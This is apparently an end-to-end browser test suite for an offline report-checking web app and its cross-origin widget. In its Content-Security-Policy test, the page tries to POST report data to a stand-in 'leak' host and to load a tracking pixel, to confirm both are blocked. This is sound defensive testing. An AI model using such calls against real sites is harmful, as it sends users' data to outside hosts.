// Browser tests of the offline app and the widget (issue 5), in Debian's headless chromium:
// install criteria, working with the server gone, a sub-path, the widget's message API across
// origins, every request the page makes, the update offer, and the Content-Security-Policy.
// Run: node --test tests/e2e/   (dist/ built by `trunk build --release --offline`)
//
// DOM contract used here (besides app.test.mjs's): www/pwa.js shows #update-banner with
// #update-now when a new version waits, and sets <html data-sw-version> to the version of the
// service worker in control; the demo host page (www/demo-host.html) has #host-text,
// #host-send, #host-result[data-rules], #host-height and <body data-widget-ready>.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { chromium } from 'playwright-core';
import {
  DIST, ROOT, FIXTURES, harness, serveDist, newPage, screenshot, seed, SEEDS, pasteReport, chromiumPath,
} from './lib.mjs';

const T = { timeout: 90_000 };

const h = harness();
const getBrowser = () => h.browser();
const serve = (dir, opts) => h.serve(dir, opts);
const cleanups = [];
after(async () => {
  for (const c of cleanups.reverse()) await c();
});

/** Waits until a service worker controls the page; returns its version (from pwa.js). */
async function waitForServiceWorker(page) {
  await page.waitForFunction(
    () => navigator.serviceWorker.controller !== null && document.documentElement.dataset.swVersion,
    null,
    { timeout: 30_000 },
  );
  return page.evaluate(() => document.documentElement.dataset.swVersion);
}

async function findingRules(page) {
  return page.locator('#findings [data-rule]').evaluateAll((els) => els.map((e) => e.dataset.rule));
}

test('install criteria: the manifest parses with its icons, the service worker is active', T, async () => {
  const server = await serve(DIST);
  // A persistent profile: an incognito-like context is never installable.
  const profile = mkdtempSync(join(tmpdir(), 'nianbao-profile-'));
  cleanups.push(() => rmSync(profile, { recursive: true, force: true }));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: chromiumPath(),
    headless: true,
    chromiumSandbox: false,
    args: ['--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
  });
  cleanups.push(() => context.close());
  const page = context.pages()[0] ?? (await context.newPage());
  await page.goto(server.url);
  await page.waitForSelector('#report-input');
  await waitForServiceWorker(page);
  const state = await page.evaluate(async () => (await navigator.serviceWorker.ready).active.state);
  assert.equal(state, 'activated');

  const cdp = await context.newCDPSession(page);
  const manifest = await cdp.send('Page.getAppManifest');
  assert.deepEqual(manifest.errors, [], 'manifest errors');
  assert.ok(manifest.url.endsWith('/manifest.webmanifest'), manifest.url);
  const data = JSON.parse(manifest.data);
  assert.equal(data.short_name, '年报检查');
  assert.equal(data.display, 'standalone');
  const icons = data.icons.map((i) => `${i.sizes} ${i.purpose}`);
  assert.deepEqual(icons.sort(), ['192x192 any', '512x512 any', '512x512 maskable']);
  // Every icon is there and is a PNG of its declared size.
  for (const icon of data.icons) {
    const size = await page.evaluate(async (src) => {
      const img = new Image();
      img.src = src;
      await img.decode();
      return `${img.naturalWidth}x${img.naturalHeight}`;
    }, icon.src);
    assert.equal(size, icon.sizes, icon.src);
  }
  const { installabilityErrors } = await cdp.send('Page.getInstallabilityErrors');
  assert.deepEqual(installabilityErrors, [], 'chromium would not offer to install the app');
});

test('offline: with the server gone, the app reloads and checks a pasted report', T, async () => {
  const server = await serveDist(DIST);
  const page = await newPage(await getBrowser());
  await page.goto(server.url);
  await page.waitForSelector('#report-input');
  await waitForServiceWorker(page);
  // The network goes away: the server stops and the browser is offline.
  await server.close();
  await page.context().setOffline(true);
  await page.reload();
  await page.waitForSelector('#report-input', { timeout: 15_000 });
  await pasteReport(page, seed('001'));
  const rules = await findingRules(page);
  assert.ok(rules.includes('T3-BALANCE'), `findings offline: ${rules}`);
  await screenshot(page, 'pwa-offline');
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('sub-path: served under /some/path/, the app loads, checks and registers its worker there', T, async () => {
  const server = await serve(DIST, { prefix: '/some/path/' });
  const page = await newPage(await getBrowser());
  await page.goto(server.url);
  await page.waitForSelector('#report-input');
  await pasteReport(page, seed('001'));
  assert.ok((await findingRules(page)).includes('T3-BALANCE'));
  await waitForServiceWorker(page);
  const scope = await page.evaluate(async () => (await navigator.serviceWorker.ready).scope);
  assert.equal(scope, server.url);
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('widget: a host page on another origin sends seed 001 and receives the balance errors', T, async () => {
  const widget = await serve(DIST);
  const host = await serve(DIST);
  assert.notEqual(widget.origin, host.origin);
  const page = await newPage(await getBrowser());
  await page.goto(`${host.url}demo-host.html?widget=${encodeURIComponent(widget.url)}`);
  await page.waitForSelector('body[data-widget-ready]', { timeout: 20_000 });
  const frame = page.locator('iframe');
  assert.ok((await frame.getAttribute('src')).startsWith(`${widget.url}index.html?embed=1&host=`));

  // The host page's own script calls the API: text in, the JSON contract out.
  await page.fill('#host-text', seed('001'));
  await page.click('#host-send');
  await page.waitForSelector('#host-result[data-rules]', { timeout: 15_000 });
  const result = await page.evaluate(() => window.nianbaoWidget.check(document.getElementById('host-text').value));
  assert.equal(result.year, 2020);
  const balance = result.findings.filter((f) => f.rule === 'T3-BALANCE');
  assert.deepEqual(balance.map((f) => f.column).sort(), ['总计', '自然人']);
  for (const f of balance) assert.equal(f.culprit.row, '（七）总计');
  assert.ok(result.tables, 'the contract carries the tables');
  assert.equal(result.source, 'text');

  // A web page's HTML: read by its tables, the source cells named.
  const html = readFileSync(join(FIXTURES, 'office', '001.html'), 'utf8');
  const fromPage = await page.evaluate((h) => window.nianbaoWidget.checkHtml(h), html);
  assert.equal(fromPage.source, 'html');
  const pageBalance = fromPage.findings.filter((f) => f.rule === 'T3-BALANCE');
  assert.equal(pageBalance.length, 2);
  for (const f of pageBalance) assert.equal(f.source_culprit.row, 24, JSON.stringify(f.source_culprit));
  await page.frameLocator('iframe').locator('#source-tables table[data-source-table]').first().waitFor();
  // A file's bytes: a .docx, and a PDF (read by the PDF module, fetched by the widget then).
  const docx = [...readFileSync(join(FIXTURES, 'office', '003.docx'))];
  const fromDocx = await page.evaluate((b) => window.nianbaoWidget.checkFile(new Uint8Array(b).buffer), docx);
  assert.equal(fromDocx.source, 'docx');
  const pdf = [...readFileSync(join(ROOT, 'tests', 'corpus', 'pdf', '001.pdf'))];
  const fromPdf = await page.evaluate((b) => window.nianbaoWidget.checkFile(new Uint8Array(b)), pdf);
  assert.equal(fromPdf.source, 'pdf');
  assert.equal(fromPdf.findings.filter((f) => f.rule === 'T3-BALANCE').length, 2);
  const broken = await page.evaluate(
    (b) => window.nianbaoWidget.checkFile(new Uint8Array(b)).then(() => 'answered', (e) => e.message),
    [...Buffer.from('%PDF-1.7\n1 0 obj\n')],
  );
  assert.match(broken, /PDF 文件不完整/);
  // Back to the text for what follows.
  await page.evaluate(() => window.nianbaoWidget.check(document.getElementById('host-text').value));

  // The widget shows what it checked, and the iframe fits the content it reported.
  const inner = page.frameLocator('iframe');
  assert.equal(await inner.locator('#report-input').inputValue(), seed('001'));
  await page.waitForFunction(() => document.getElementById('host-height').textContent !== '—');
  const reported = parseInt(await page.textContent('#host-height'), 10);
  const box = await frame.boundingBox();
  assert.ok(reported > 640, `content height ${reported}`);
  assert.equal(Math.round(box.height), reported);
  await screenshot(page, 'widget-host');

  // Compact mode for a narrow container.
  await page.setViewportSize({ width: 420, height: 900 });
  await page.goto(`${host.url}demo-host.html?compact&widget=${encodeURIComponent(widget.url)}`);
  await page.waitForSelector('body[data-widget-ready]', { timeout: 20_000 });
  const compact = await page.frameLocator('iframe').locator('body').evaluate((b) => [b.className, getComputedStyle(b.querySelector('.source-pane')).display]);
  assert.deepEqual(compact, ['embed compact', 'none']);
  await screenshot(page, 'widget-compact');
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('widget: messages from an origin other than its host get no answer', T, async () => {
  const widget = await serve(DIST);
  const other = await serve(DIST);
  const page = await newPage(await getBrowser());
  await page.goto(`${other.url}demo-host.css`); // any page of the other origin
  const answers = await page.evaluate(async (src) => {
    const got = [];
    addEventListener('message', (e) => got.push(e.data && e.data.type));
    const f = document.createElement('iframe');
    // The widget was told its host is some other site: this page may not use it.
    f.src = `${src}index.html?embed=1&host=${encodeURIComponent('https://example.gov.cn')}`;
    document.body.appendChild(f);
    await new Promise((ok) => { f.onload = ok; });
    await new Promise((ok) => setTimeout(ok, 1500));
    f.contentWindow.postMessage({ type: 'nianbao:check', id: 1, text: '2020年度政府信息公开工作年度报告' }, '*');
    await new Promise((ok) => setTimeout(ok, 1500));
    return got;
  }, widget.url);
  assert.deepEqual(answers, [], 'the widget talked to a page that is not its host');
  await page.context().close();
});

test('network: every request goes to the app\'s own origin, and none after load', T, async () => {
  const server = await serve(DIST);
  const page = await newPage(await getBrowser());
  const requests = [];
  page.context().on('request', (r) => requests.push(r.url()));
  await page.goto(server.url);
  await page.waitForSelector('#report-input');
  await waitForServiceWorker(page);
  await page.waitForLoadState('networkidle');
  const atLoad = requests.length;
  for (const n of SEEDS) await pasteReport(page, seed(n));
  await page.fill('#report-input', `${seed('004')}\n补充一句。`);
  await page.waitForTimeout(400);
  const foreign = requests.filter((u) => new URL(u).origin !== server.origin);
  assert.deepEqual(foreign, [], 'requests to other origins');
  assert.deepEqual(requests.slice(atLoad), [], 'requests after load (checking must not touch the network)');
  assert.ok(atLoad > 0);
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('content security policy: the page may not connect anywhere but its own origin', T, async () => {
  const server = await serve(DIST);
  const page = await newPage(await getBrowser());
  await page.goto(server.url);
  await page.waitForSelector('#report-input');
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /connect-src 'self'/);
  assert.match(csp, /default-src 'self'/);
  assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|\*/);
  const blocked = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const tries = [
      fetch('http://127.0.0.2:9/leak', { method: 'POST', body: 'report' }).then(() => 'sent', () => 'refused'),
      new Promise((ok) => {
        const img = new Image();
        img.onload = () => ok('loaded');
        img.onerror = () => ok('refused');
        img.src = 'http://127.0.0.2:9/pixel.png';
      }),
    ];
    const results = await Promise.all(tries);
    await new Promise((ok) => setTimeout(ok, 100));
    return { results, violations };
  });
  assert.deepEqual(blocked.results, ['refused', 'refused']);
  assert.deepEqual(blocked.violations.sort(), ['connect-src', 'img-src']);
  await page.context().close();
});

test('update: a new deployment is offered, applied on consent, and the pasted text is kept', T, async () => {
  // A copy of the build, so that a second deployment can replace it.
  const dir = mkdtempSync(join(tmpdir(), 'nianbao-dist-'));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  cpSync(DIST, dir, { recursive: true });
  const server = await serve(dir);
  const page = await newPage(await getBrowser());
  await page.goto(server.url);
  await page.waitForSelector('#report-input');
  const v1 = await waitForServiceWorker(page);
  const text = `${seed('002')}\n（本段是用户刚粘贴的）`;
  await pasteReport(page, text);

  // The second deployment: the same post-build step as every trunk build, on a changed build.
  execFileSync('python3', [join(ROOT, 'scripts', 'pwa-build.py'), dir, '--label', 'second deployment']);
  await page.evaluate(async () => (await navigator.serviceWorker.getRegistration()).update());
  await page.waitForSelector('#update-banner', { timeout: 20_000 });
  await screenshot(page, 'pwa-update-offer', { fullPage: false });
  // Nothing happens without consent: still the old version, text untouched.
  assert.equal(await page.evaluate(() => document.documentElement.dataset.swVersion), v1);

  await Promise.all([page.waitForEvent('load', { timeout: 20_000 }), page.click('#update-now')]);
  await page.waitForSelector('#report-input');
  const v2 = await waitForServiceWorker(page);
  await page.waitForFunction((old) => document.documentElement.dataset.swVersion !== old, v1);
  assert.notEqual(await page.evaluate(() => document.documentElement.dataset.swVersion), v1);
  assert.ok(v2);
  assert.equal(await page.inputValue('#report-input'), text);
  assert.ok((await findingRules(page)).includes('Y-DATED-EARLY'));
  assert.equal(await page.locator('#update-banner').count(), 0);
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('engine: engine/nianbao.js gives check(text) without the interface', T, async () => {
  const server = await serve(DIST);
  const page = await newPage(await getBrowser());
  await page.goto(`${server.url}demo-host.css`); // a page of the app's origin without the app
  const result = await page.evaluate(async ([base, text]) => {
    const engine = await import(`${base}engine/nianbao.js`);
    await engine.default();
    return { json: JSON.parse(engine.check(text)), version: engine.version() };
  }, [server.url, seed('001')]);
  assert.match(result.version, /^\d+\.\d+\.\d+/);
  assert.equal(result.json.file, 'input');
  const balance = result.json.findings.filter((f) => f.rule === 'T3-BALANCE');
  assert.deepEqual(balance.map((f) => f.culprit.row), ['（七）总计', '（七）总计']);
  assert.equal(await page.locator('#report-input').count(), 0, 'the engine draws nothing');
  // A PDF: check_file_async loads the PDF module from the address given, the first time.
  const pdf = [...readFileSync(join(ROOT, 'tests', 'corpus', 'pdf', '001.pdf'))];
  const fromPdf = await page.evaluate(async ([base, bytes]) => {
    const engine = await import(`${base}engine/nianbao.js`);
    const url = new URL('../pdf/nianbao_pdf.js', `${base}engine/nianbao.js`).href;
    const r = JSON.parse(await engine.check_file_async(new Uint8Array(bytes), url));
    const text = JSON.parse(await engine.check_file_async(new TextEncoder().encode('2020年度报告'), undefined));
    const noModule = JSON.parse(await engine.check_file_async(new Uint8Array(bytes), undefined));
    return { source: r.source, rules: r.findings.map((f) => f.rule), text: text.source, noModule: noModule.error };
  }, [server.url, pdf]);
  assert.equal(fromPdf.source, 'pdf');
  assert.ok(fromPdf.rules.includes('T3-BALANCE'), `${fromPdf.rules}`);
  assert.equal(fromPdf.text, 'text');
  assert.match(fromPdf.noModule, /PDF 模块/);
  await page.context().close();
});
